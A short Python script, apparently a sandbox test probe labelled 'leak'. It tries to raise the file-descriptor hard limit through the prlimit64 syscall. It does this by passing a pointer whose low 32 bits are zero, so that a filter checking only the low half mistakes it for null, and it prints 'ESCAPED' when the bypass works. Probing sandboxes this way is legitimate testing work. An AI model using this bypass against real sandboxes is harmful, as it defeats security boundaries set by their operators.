# class: leak
# Raises its limits by a pointer whose lower half is zero, which a careless filter takes for a null pointer.
import ctypes,platform,resource,struct
l=ctypes.CDLL(None,use_errno=True); l.mmap.restype=ctypes.c_void_p; h=resource.getrlimit(resource.RLIMIT_NOFILE)[1]
a=l.mmap(ctypes.c_void_p(1<<40),ctypes.c_size_t(4096),3,0x100022,-1,ctypes.c_long(0)); ctypes.memmove(a,struct.pack("=QQ",h+1,h+1),16)
r=l.syscall({"x86_64":302,"aarch64":261}[platform.machine()],0,int(resource.RLIMIT_NOFILE),ctypes.c_void_p(a),None)
print("ESCAPED" if r==0 and a&0xffffffff==0 else "no errno %d"%ctypes.get_errno())
